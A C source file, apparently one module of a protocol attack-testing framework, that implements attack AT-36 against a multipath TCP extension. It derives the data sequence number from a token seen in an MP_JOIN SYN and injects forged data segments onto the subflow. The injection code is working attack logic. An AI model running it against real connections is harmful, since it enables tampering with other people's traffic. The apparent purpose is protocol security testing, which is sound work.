/* SPDX-License-Identifier: MIT */
/*
 * AT-36: a SYN with MP_JOIN shows the token of who receives it, and where the
 * initial data sequence number follows from that token (D-05) the attacker
 * knows the number of the next octet of an end that has written nothing yet. It
 * puts octets of its own there, on the subflow whose SYN it saw, without ever
 * having seen a segment with data.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_auth.h"
#include "mpx_csum.h"
#include "mpx_tcp.h"

#include <string.h>

enum { SIZE, VOLUME, STEP };
enum { MSS = 1000 };
#define PACE UINT64_C(2000000) /* ns */
static const struct atk_param params[] = {
    [SIZE] = {"size", ATK_P_SIZE, .initial = 1000, .min = 1, .max = 64000},
    [VOLUME] = {"volume", ATK_P_SIZE, .initial = 3000000, .max = 1000000000},
    [STEP] = {"step", ATK_P_SIZE, .initial = 10000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

struct state {
    struct atk_flows flows;
    uint64_t tried; /* octets that the other end may have sent */
};

/* As the profiles with tokens of that length have it, and nobody else. */
static uint64_t first_dsn(uint64_t token, uint8_t token_len)
{
    const struct mpx_profile *p =
        mpx_profile_find(token_len == 8 ? "paasch" : "baerts");
    struct mpx_identity server;

    mpx_auth_identity(&server, p, token, 0);
    return server.idsn + 1;
}

static void inject_one(struct atk *a, const struct atk_watched *f, uint64_t dsn,
                       uint64_t at, uint64_t now)
{
    uint64_t left = atk_param(a, SIZE) - at;
    uint16_t len = left < MSS ? (uint16_t)left : MSS;
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
    struct atk_opts opts = {0};
    uint8_t octets[MSS];

    atk_payload(a, at, octets, len);
    o.u.dss.has_map = o.u.dss.dsn8 = true;
    o.u.dss.dsn = dsn + at;
    o.u.dss.ssn = (uint32_t)at + 1;
    o.u.dss.dll = len;
    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, octets, len, now);
}

static void inject(struct atk *a, const struct atk_watched *f, uint64_t dsn,
                   uint64_t sent, uint64_t now)
{
    struct atk_watched guess = *f;
    struct atk_way *w = &guess.way[1];

    w->ack = f->way[1].ack + (uint32_t)sent;
    for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
        w->next = f->way[1].next + (uint32_t)at;
        inject_one(a, &guess, dsn, at, now);
    }
}

static uint64_t spoiled(struct atk *a, uint64_t token)
{
    uint8_t b[8];

    mpx_put32(b, (uint32_t)(token >> 32));
    mpx_put32(b + 4, (uint32_t)token);
    atk_spoil(a, b, sizeof b);
    return (uint64_t)mpx_get32(b) << 32 | mpx_get32(b + 4);
}

/* One guess for each subflow at a time: the path's queue is short. */
static void act(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->flows.n; i++) {
        const struct mpx_opt_join *j = &st->flows.v[i].way[0].join;

        if (atk_flows_live(&st->flows.v[i]) && j->token_len)
            inject(a, &st->flows.v[i],
                   first_dsn(spoiled(a, j->token), j->token_len), st->tried,
                   now);
    }
    st->tried += atk_param(a, STEP);
    if (st->tried <= atk_param(a, VOLUME))
        atk_set_timer(a, now + PACE);
}

const struct atk_ops atk_dsn_infer = {
    .name = "infer-dsn",
    .id = "AT-36",
    .does = "computes the data sequence number of the next octet from a token "
            "that it heard, and injects octets there",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.1, D-05",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .spoils = true,
    .state_size = sizeof(struct state),
    .see = atk_flows_watch,
    .act = act,
    .timer = act,
};
